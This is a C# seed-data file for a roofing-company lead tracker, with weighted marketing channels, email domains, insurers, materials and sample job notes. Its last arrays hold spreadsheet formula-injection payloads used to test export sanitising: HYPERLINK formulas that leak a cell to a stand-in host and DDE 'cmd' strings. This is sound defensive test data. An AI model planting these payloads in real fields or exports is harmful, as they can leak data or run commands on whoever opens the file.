namespace RoofKit.Infrastructure.Seeding;

/// <summary>
/// A UTM source/medium pair with its share of leads (weights sum to 1000) and the campaigns seen with it;
/// a null campaign entry is an untagged lead, so repeating null raises its share. <see cref="HandTypedSource"/>
/// is how a hand-built link now and then spells the source ("Google"), which case-insensitive filters must match.
/// </summary>
internal sealed record SeedChannel(
    string? Source, string? Medium, int Weight, string?[] Campaigns, double EmailMissingRate, string? HandTypedSource = null);

internal static partial class SeedData
{
    /// <summary>Placeholder campaign, replaced by the lead's state-specific storm campaign (storm_damage_tx).</summary>
    public const string StormCampaign = "storm_damage_{state}";

    /// <summary>
    /// Placeholder campaign, replaced by the promotion running when the lead came in:
    /// spring_roof_inspection_2026 in March to May, summer_roof_sale, fall_maintenance, winter_ice_dam.
    /// </summary>
    public const string SeasonalCampaign = "{season}_{year}";

    /// <summary>Placeholder campaign, replaced by the yard signs of the lead's year (yard_sign_2025).</summary>
    public const string YardSignCampaign = "yard_sign_{year}";

    /// <summary>Seasonal campaign names by season: 0 = spring (Mar-May), 1 = summer, 2 = fall, 3 = winter (Dec-Feb).</summary>
    public static readonly string[] SeasonalCampaignPrefixes =
        ["spring_roof_inspection_", "summer_roof_sale_", "fall_maintenance_", "winter_ice_dam_"];

    public static readonly SeedChannel[] Channels =
    [
        new("google", "cpc", 340,
        [
            "roof_replacement_search", "roof_replacement_search", "roof_repair_near_me", "roof_repair_near_me",
            SeasonalCampaign, SeasonalCampaign, "hail_storm_response", StormCampaign, StormCampaign, "free_estimate",
            "emergency_roof_repair", "brand_search", "metal_roof_search", null,
        ], 0.03, "Google"),
        new("google", "organic", 40, [null], 0.05, "Google"),
        new("google_business_profile", "organic", 20, ["gbp_listing", null], 0.08),
        new("bing", "cpc", 20, ["roof_replacement_search", "roof_repair_near_me", "brand_search"], 0.03, "Bing"),
        new("facebook", "paid_social", 130,
        [
            SeasonalCampaign, SeasonalCampaign, "hail_storm_response", "hail_storm_response", StormCampaign,
            "free_estimate", "free_estimate", "gutter_promo", "financing_offer", "retargeting_site_visitors",
        ], 0.04, "Facebook"),
        new("instagram", "paid_social", 30, [SeasonalCampaign, "gutter_promo", "financing_offer"], 0.05, "Instagram"),
        new("angi", "referral", 70, [null, null, null, "angi_leads"], 0.02, "Angi"),
        new("homeadvisor", "referral", 60, [null, null, null, "homeadvisor_pro"], 0.02, "HomeAdvisor"),
        new("thumbtack", "referral", 10, [null], 0.03, "Thumbtack"),
        new("yard_sign", "offline", 40, [null, YardSignCampaign], 0.30),
        new("door_knock", "offline", 50, ["hail_storm_response", StormCampaign, StormCampaign, null, null], 0.35),
        new("direct", "none", 70, [null], 0.10),
        new("nextdoor", "social", 30, ["free_estimate", "neighborhood_special", null], 0.06, "Nextdoor"),
        new("email", "newsletter", 30, [SeasonalCampaign, SeasonalCampaign, "gutter_promo", "referral_rewards"], 0.0),
        new("customer_referral", "referral", 30, [null, null, "referral_rewards"], 0.15),
        // Typed in by the office from a phone call: nothing is known about where the lead came from.
        new(null, null, 30, [null], 0.40),
    ];

    public static readonly string[] PersonalEmailDomains =
    [
        "gmail.com", "yahoo.com", "outlook.com", "icloud.com", "hotmail.com", "aol.com",
        "comcast.net", "att.net", "sbcglobal.net", "bellsouth.net", "msn.com", "live.com", "me.com", "cox.net",
    ];

    /// <summary>Weights for <see cref="PersonalEmailDomains"/>, same order.</summary>
    public static readonly int[] PersonalEmailDomainWeights = [430, 140, 80, 80, 70, 40, 30, 25, 15, 15, 15, 15, 15, 15];

    // Property managers, HOAs and small businesses that ask for roofs too.
    public static readonly string[] CompanyEmailDomains =
    [
        "brightoakproperties.com", "summitpm.net", "cedarlanehoa.org", "harborviewrealty.com",
        "lonestarfacilities.com", "peachtreepropertygroup.com", "frontrangerentals.com", "gulfcoastchurch.org",
    ];

    public static readonly string[] Insurers =
    [
        "State Farm", "Allstate", "USAA", "Farmers", "Liberty Mutual", "Nationwide", "Travelers", "Progressive",
        "American Family", "Erie", "Auto-Owners", "Citizens", "Chubb", "Kemper", "Texas Farm Bureau",
    ];

    public static readonly string[] RoofMaterials =
    [
        "3-tab shingles", "architectural shingles", "architectural shingles", "metal standing seam", "clay tile",
        "concrete tile", "wood shakes", "TPO (low slope)", "modified bitumen", "slate",
    ];

    public static readonly string[] Weekdays = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];

    public static readonly string[] Notes =
    [
        "Hail damage on north slope",
        "Hail damage on north slope, soft metals dented",
        "Wants estimate for full tear-off",
        "Wants estimate for full tear-off and new decking",
        "Leak over the kitchen after last storm",
        "Missing shingles after windstorm, tarp on now",
        "Water stain on living room ceiling",
        "Asked about financing options",
        "Prefers text over calls",
        "Only available after 5pm on weekdays",
        "Call before coming, dog in backyard",
        "Selling the house, needs roof certification",
        "Buyer's inspector flagged the roof",
        "Interested in metal roof, wants pricing",
        "Gutters overflowing, wants gutter guards quoted",
        "Skylight leaking, maybe reflash or replace",
        "Chimney flashing loose",
        "Granule loss in gutters",
        "Neighbor just had roof replaced by us",
        "Roof is original to the house",
        "HOA requires color approval before install",
        "Tenant-occupied, coordinate with property manager",
        "Two-story, steep pitch (10/12), needs harness setup",
        "Detached garage roof too",
        "Ice dams last winter, attic ventilation?",
        "Wants a second opinion, already has a quote",
        "Already has a quote from another roofer, price shopping",
        "Not interested right now, follow up in spring",
        "Left voicemail twice, no answer",
        "Wrong number",
        "Duplicate of an earlier lead",
        "Spanish speaking, send Rafael",
        "Elderly homeowner, daughter handles scheduling",
        "Insurance denied the claim, wants re-inspection",
        "Adjuster already came out, waiting on scope",
        "Wants solar-ready roof",
        "Flat roof section over the porch ponding water",
        "Soffit and fascia rot on the back side",
        "Storm chaser already knocked, homeowner wary",
        "Customer said: \"roof leaks only when it rains sideways\"",
        "Gate code at the entrance, ask before visit",
        "Called twice.\nNo answer either time.",
        "Estimate sent by email; customer reviewing with spouse",
        "Signed contract, scheduling install",
        "Install complete, asked for review",
        "Went with another contractor",
        "Price too high, lost to cheaper bid",
        "Needs to wait for insurance check",
        "Mortgage company must endorse the check",
        "Vent boots cracked, small repair only",
        "Wind damage, shingles creased along the ridge",
        "Tree limb fell on roof, urgent",
        "Wants impact-resistant (Class 4) shingles for the discount",
        "Commercial property, 12,000 sq ft TPO",
        "Church building, board must approve",
        "Rental property, owner lives out of state",
    ];

    /// <summary>
    /// Notes that a spreadsheet would run as a formula if an export did not neutralise them: they start with
    /// =, +, - or @. Some are plain office shorthand, some are attacks.
    /// </summary>
    public static readonly string[] FormulaNotes =
    [
        "=HYPERLINK(\"http://evil.example\",\"click\")",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open invoice\")",
        "=cmd|' /C calc'!A0",
        "=1+1",
        "=SUM(A1:A2)",
        "+1 call back after 5pm",
        "+ add gutter guard quote",
        "+2 more photos in the shared drive",
        "-- left voicemail",
        "-2 shingles missing on ridge",
        "- customer cancelled inspection",
        "@crew please check flashing",
        "@office send insurance paperwork",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    /// <summary>
    /// Notes pasted from elsewhere that start with a tab or a line break, the other characters a formula-safe
    /// export must neutralise.
    /// </summary>
    public static readonly string[] ControlLedNotes =
    [
        "\tgate code 4471 (pasted from the job sheet)",
        "\r\nsee photos in the job folder",
        "\nCalled back, wants Saturday appointment",
    ];

    public static readonly string[] FormulaFirstNames = ["=SUM(A1:A2)", "=1+2", "+Mike", "-Sam", "@Jess"];

    public static readonly string[] FormulaLastNames =
        ["=HYPERLINK(\"http://evil.example\",\"Smith\")", "-Garcia", "+Nguyen", "@Johnson"];

    public static readonly string[] FormulaCampaigns =
        ["=cmd|' /C calc'!A0", "-storm_followup", "+retarget_2026", "@import_batch_7"];
}
